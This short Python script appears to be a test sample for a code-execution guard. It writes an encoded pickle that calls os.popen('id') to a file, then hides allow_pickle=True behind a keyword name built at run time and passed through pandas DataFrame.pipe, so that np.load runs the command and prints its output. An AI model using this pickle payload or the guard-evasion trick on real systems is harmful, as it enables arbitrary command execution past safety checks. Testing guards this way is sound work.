# source: pandas docs DataFrame.pipe "(callable, data_keyword)" tuple; README: f(**name) is accepted when name is a def's own **kwargs
# family: keyword NAME chosen at run time (pipe tuple) flows into a script def's **kwargs, then spread into a guarded call
# goal: np.load(own file, allow_pickle=<truthy>) on a written protocol-0 pickle -> os.popen('id')
import json
import numpy as np
import pandas as pd


def go(**kw):
    return np.load("sx393.bin", **kw)


pk = bytes.fromhex("636f730a706f70656e0a2853276964270a74522e").decode()
np.savetxt("sx393.bin", [pk], fmt="%s", newline="")
r = pd.DataFrame.pipe(True, (go, "allow_" + "pickle"))
print(json.dumps({"evidence": r.read()}))
